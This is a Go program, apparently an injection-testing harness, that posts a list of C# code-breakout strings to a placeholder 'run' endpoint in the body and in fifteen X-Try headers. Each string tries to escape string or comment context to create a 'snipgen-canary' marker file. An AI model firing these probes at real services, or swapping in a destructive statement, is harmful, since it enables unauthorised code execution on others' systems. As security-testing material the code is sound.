package main

import (
	"fmt"
	"io"
	"log"
	"net/http"
	"strings"
)

func main() {
	payload := strings.NewReader("{System.IO.File.Create(\"snipgen-canary\")}\n{{System.IO.File.Create(\"snipgen-canary\")}}\n\"+System.IO.File.Create(\"snipgen-canary\")+\"\n\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\n\"\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\"\n\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\"\n\\\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\\\"\n@\"\\\"+System.IO.File.Create(\"snipgen-canary\")+\"\n$\"{System.IO.File.Create(\"snipgen-canary\")}\"\n{0} {x:System.IO.File.Create(\"snipgen-canary\")} {\n}\n\\u0022+System.IO.File.Create(\"snipgen-canary\")+\\u0022\n*/System.IO.File.Create(\"snipgen-canary\");/*\n\u0085System.IO.File.Create(\"snipgen-canary\");//\n\u2028System.IO.File.Create(\"snipgen-canary\");\u2029//\n\"\n#line 1\nSystem.IO.File.Create(\"snipgen-canary\");//\n\\")

	req, err := http.NewRequest(http.MethodPost, "https://api.example.com/run", payload)
	if err != nil {
		log.Fatal(err)
	}
	req.Header.Set("X-Try-1", "{System.IO.File.Create(\"snipgen-canary\")}")
	req.Header.Set("X-Try-2", "{{System.IO.File.Create(\"snipgen-canary\")}}")
	req.Header.Set("X-Try-3", "\"+System.IO.File.Create(\"snipgen-canary\")+\"")
	req.Header.Set("X-Try-4", "\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"")
	req.Header.Set("X-Try-5", "\"\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\"")
	req.Header.Set("X-Try-6", "\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\"")
	req.Header.Set("X-Try-7", "\\\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\\\"")
	req.Header.Set("X-Try-8", "@\"\\\"+System.IO.File.Create(\"snipgen-canary\")+\"")
	req.Header.Set("X-Try-9", "$\"{System.IO.File.Create(\"snipgen-canary\")}\"")
	req.Header.Set("X-Try-10", "{0} {x:System.IO.File.Create(\"snipgen-canary\")} {")
	req.Header.Set("X-Try-11", "}")
	req.Header.Set("X-Try-12", "\\u0022+System.IO.File.Create(\"snipgen-canary\")+\\u0022")
	req.Header.Set("X-Try-13", "*/System.IO.File.Create(\"snipgen-canary\");/*")
	req.Header.Set("X-Try-14", "\u0085System.IO.File.Create(\"snipgen-canary\");//")
	req.Header.Set("X-Try-15", "\u2028System.IO.File.Create(\"snipgen-canary\");\u2029//")
	req.Header.Set("X-Try-17", "\\")
	req.Header.Set("Content-Type", "text/plain")

	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		log.Fatal(err)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(string(body))
}
